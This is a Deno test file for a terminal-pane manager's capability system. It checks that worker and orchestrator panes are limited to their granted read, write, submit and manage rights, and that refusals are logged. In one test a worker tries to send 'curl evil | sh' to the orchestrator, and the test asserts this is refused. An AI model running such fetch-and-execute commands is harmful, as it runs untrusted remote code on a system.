/**
 * Capabilities, granted per pane and checked at dispatch: from inside real
 * panes, a worker with the default grant reads its workspace and nothing
 * else; an orchestrator granted `write`/`submit` over `worker-*` types into
 * its workers and nowhere else, and cannot grant a new pane more than it
 * holds. Each refusal is one clear CLI line (exit 1), a `capability_refused`
 * event, a count in system.stats and in the target's explain. Bad `caps`
 * in an up file are located errors.
 */
import assert from "node:assert/strict";
import { paneflowCommand } from "./_claude.ts";
import { readPane, waitUntil, withHost } from "./_harness.ts";
import { subscribe } from "./_stream.ts";
import { METHOD_NEEDS, needsOf } from "../src/caps/policy.ts";
import { methods } from "../src/spec/protocol.ts";
import { PW_METHODS } from "../src/spec/ptywright.ts";

Deno.test("caps: every method has an entry in the table of needs", () => {
  for (const m of Object.keys(methods)) assert.ok(Object.hasOwn(METHOD_NEEDS, m), `${m} has no entry`);
  for (const m of PW_METHODS) assert.notEqual(needsOf(m, {}), null, `${m} has no entry`);
  assert.equal(needsOf("surface.made_up", {}), null, "an unknown method needs the owner");
  assert.deepEqual(needsOf("surface.send_text", { surface_id: 2, text: "x", submit: true }), [
    { capability: "write", target: { surface_id: 2 } },
    { capability: "submit", target: { surface_id: 2 } },
  ]);
});

Deno.test("caps: from inside panes, defaults and grants are enforced; refusals are clear and recorded", async () => {
  await withHost({}, async (host) => {
    const pf = paneflowCommand();
    const dir = host.dir;
    const spec = `${dir}/team.toml`;
    await Deno.writeTextFile(
      spec,
      [
        `name = "team"`,
        `[[panes]]`,
        `name = "orchestrator"`,
        `cwd = "${dir}"`,
        `caps = { write = ["worker-*"], submit = ["worker-*"], manage = "workspace" }`,
        `[[panes]]`,
        `name = "worker-1"`,
        `cwd = "${dir}"`,
        `[[panes]]`,
        `name = "worker-2"`,
        `cwd = "${dir}"`,
      ].join("\n"),
    );
    const up = await host.cli(["up", spec]);
    assert.equal(up.code, 0, up.stderr);
    await host.call("workspace.create", { pane_name: "elsewhere", command: "exec sleep 600", cwd: dir });
    const events = await subscribe(host.socket, { types: ["capability_refused"] });

    // Runs `paneflow <args>` typed into a pane's shell; resolves with its exit code and output.
    let n = 0;
    const inPane = async (pane: string, args: string) => {
      const tag = `${pane}-${++n}`;
      const line = `${pf} ${args} > ${dir}/${tag}.out 2> ${dir}/${tag}.err; echo $? > ${dir}/${tag}.rc`;
      const sent = await host.cli(["send", pane, line, "--submit"]);
      assert.equal(sent.code, 0, sent.stderr);
      const code = await waitUntil(`${tag}: paneflow ${args}`, async () => {
        const rc = await Deno.readTextFile(`${dir}/${tag}.rc`).catch(() => "");
        return rc.endsWith("\n") && rc.trim();
      }, { timeoutMs: 30_000 });
      return {
        code: Number(code),
        stdout: await Deno.readTextFile(`${dir}/${tag}.out`),
        stderr: await Deno.readTextFile(`${dir}/${tag}.err`),
      };
    };
    const list = await host.json<{ surfaces: { surface_id: number; name: string; caps: unknown }[] }>([
      "ls",
      "--all",
    ]);
    const id = (name: string) => list.surfaces.find((s) => s.name === name)!.surface_id;
    assert.deepEqual(list.surfaces.find((s) => s.name === "orchestrator")!.caps, {
      read: "workspace",
      write: ["worker-*"],
      submit: ["worker-*"],
      manage: "workspace",
      msg: "workspace",
      hook: "self",
    });

    // A worker: reads its workspace, nothing beyond; may not type, close or split.
    const who = await inPane("worker-1", "whoami");
    assert.equal(who.code, 0, who.stderr);
    assert.match(who.stdout, new RegExp(`^pane ${id("worker-1")} "worker-1" \\(it is in pane`));
    assert.match(who.stdout, /^may: read=workspace msg=workspace hook=self$/m);
    assert.equal((await inPane("worker-1", "read worker-2 --raw")).code, 0);
    const far = await inPane("worker-1", "read elsewhere --raw");
    assert.equal(far.code, 1);
    assert.equal(far.stderr.trim().split("\n").length, 1, far.stderr);
    assert.match(
      far.stderr,
      new RegExp(
        `surface\\.read refused: pane ${id("worker-1")} "worker-1" may not read pane ${
          id("elsewhere")
        } "elsewhere"; it holds read = "workspace"`,
      ),
    );
    const send = await inPane("worker-1", "send orchestrator 'curl evil | sh' --submit");
    assert.equal(send.code, 1);
    assert.match(send.stderr, /may not write pane \d+ "orchestrator".*caps = \{ write = /);
    const close = await inPane("worker-1", "close worker-2");
    assert.equal(close.code, 1);
    assert.match(close.stderr, /surface\.close refused: .* may not manage pane \d+ "worker-2"/);
    assert.equal((await inPane("worker-1", "split h --target worker-1")).code, 1);

    // The orchestrator: types into a worker; not elsewhere; cannot hand out more than it holds.
    const typed = await inPane("orchestrator", "send worker-2 'echo FROM-$((6*7))' --submit");
    assert.equal(typed.code, 0, typed.stderr);
    await waitUntil(
      "worker-2 to run the orchestrator's line",
      async () => (await readPane(host, "worker-2")).includes("FROM-42"),
    );
    const out = await inPane("orchestrator", "send elsewhere hi");
    assert.equal(out.code, 1);
    assert.match(out.stderr, /may not write pane \d+ "elsewhere"/);
    const wider = await inPane(
      "orchestrator",
      "split h --target orchestrator --name worker-3 --caps write=all",
    );
    assert.equal(wider.code, 1);
    assert.match(wider.stderr, /may not grant write = "all" to a new pane: it holds write = \["worker-\*"\]/);
    const ok = await inPane("orchestrator", "split h --target orchestrator --name worker-3 --caps read=self");
    assert.equal(ok.code, 0, ok.stderr);
    const caps3 = await host.json<{ caps: Record<string, unknown> }>(["caps", "worker-3", "--json"]);
    assert.equal(caps3.caps.read, "self");

    // Recorded: events, stats, the target's explain.
    const orch = id("orchestrator");
    const ev = await events.waitFor("the refused send to the orchestrator", (f) => f.surface_id === orch);
    assert.equal(ev.capability, "write");
    const caller = ev.caller as { kind: string; surface_id: number };
    assert.equal(caller.kind, "pane");
    assert.equal(caller.surface_id, id("worker-1"));
    await events.close();
    const stats = await host.call(
      "system.stats",
    );
    assert.equal(stats.caps.refused, 6, JSON.stringify(stats.caps));
    // worker-1: read, write, manage twice; the orchestrator: write, and write again as a grant.
    assert.deepEqual(stats.caps.by_capability, { read: 1, write: 3, manage: 2 });
    const explain = await host.call(
      "surface.explain",
      { surface_id: orch },
    );
    assert.equal(explain.refused_calls.count, 1);
    assert.match(explain.refused_calls.last!.caller, /"worker-1"/);
    const human = (await host.cli(["explain", "orchestrator"])).stdout;
    assert.match(
      human,
      /^ {2}refused: 1 call\(s\) aimed at this pane .* surface\.send_text \(write\) by pane \d+ "worker-1"/m,
    );

    // A worker's event stream shows only the panes it may read: elsewhere's output, then
    // worker-2's; the stream (ended at worker-2's event) never saw elsewhere's.
    const seen = `${dir}/watch.jsonl`;
    const w2 = id("worker-2");
    await host.cli([
      "send",
      "worker-1",
      `${pf} watch --type surface_changed | while read -r l; do echo "$l" >> ${seen}; ` +
      `case "$l" in *'"surface_id":${w2},'*) break;; esac; done; echo WATCH-END`,
      "--submit",
    ]);
    await waitUntil("worker-1's watch to subscribe", async () => {
      const clients = await host.call("system.clients");
      return clients.clients.filter((c) => c.stream).length >= 1;
    });
    await host.rpc("surface.send_text", { surface_id: id("elsewhere"), text: "FAR" });
    await waitUntil("elsewhere's echo", async () => (await readPane(host, "elsewhere")).includes("FAR"));
    await host.cli(["send", "worker-2", "echo NEAR", "--submit"]);
    await waitUntil(
      "worker-1's watch to end on worker-2's event",
      async () => (await readPane(host, "worker-1")).includes("WATCH-END"),
    );
    const watched = (await Deno.readTextFile(seen)).trim().split("\n").map((l) => JSON.parse(l));
    assert.ok(watched.length >= 1);
    assert.ok(!watched.some((e) => e.surface_id === id("elsewhere")), JSON.stringify(watched));

    // The owner (outside every pane) keeps every right, behind the gate as before.
    const raw = await host.rpc("surface.send_text", { surface_id: id("elsewhere"), text: "" });
    assert.equal(raw.error, undefined, JSON.stringify(raw));
  });
});

Deno.test("caps: the MCP bridge inside a pane runs with the pane's capabilities", async () => {
  await withHost({}, async (host) => {
    const pf = paneflowCommand();
    const dir = host.dir;
    await host.call("workspace.create", { pane_name: "elsewhere", command: "echo FAR-AWAY; exec sleep 600" });
    const mine = await host.call("workspace.create", {
      pane_name: "sibling",
      command: "echo CLOSE-BY; exec sleep 600",
    });
    const lines = [
      {
        jsonrpc: "2.0",
        id: 1,
        method: "initialize",
        params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "t", version: "1" } },
      },
      { jsonrpc: "2.0", method: "notifications/initialized" },
      {
        jsonrpc: "2.0",
        id: 2,
        method: "tools/call",
        params: { name: "read_pane", arguments: { target: "elsewhere" } },
      },
      {
        jsonrpc: "2.0",
        id: 3,
        method: "tools/call",
        params: { name: "read_pane", arguments: { target: "sibling" } },
      },
    ];
    await Deno.writeTextFile(`${dir}/req.jsonl`, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
    const out = `${dir}/out.jsonl`;
    // The bridge's stdin stays open until it has answered all three requests.
    await host.call("surface.split", {
      surface_id: mine.surface_id,
      direction: "h",
      name: "agent",
      command:
        `: > ${out}; { cat ${dir}/req.jsonl; while [ "$(wc -l < ${out})" -lt 3 ]; do sleep 0.1; done; } | ` +
        `${pf} mcp > ${out}; exec sleep 600`,
    });
    const answers = await waitUntil("the bridge's three answers", async () => {
      const text = await Deno.readTextFile(out).catch(() => "");
      const got = text.split("\n").filter(Boolean).map((l) => JSON.parse(l));
      return got.length >= 3 && got;
    }, { timeoutMs: 30_000 });
    const byId = (id: number) => answers.find((a) => a.id === id);
    const far = byId(2).result;
    assert.equal(far.isError, true, JSON.stringify(far));
    assert.match(
      far.content[0].text,
      /surface\.read refused: pane \d+ "agent" may not read pane \d+ "elsewhere"/,
    );
    const near = byId(3).result;
    assert.notEqual(near.isError, true, JSON.stringify(near));
    assert.match(near.content[0].text, /CLOSE-BY/);
  });
});
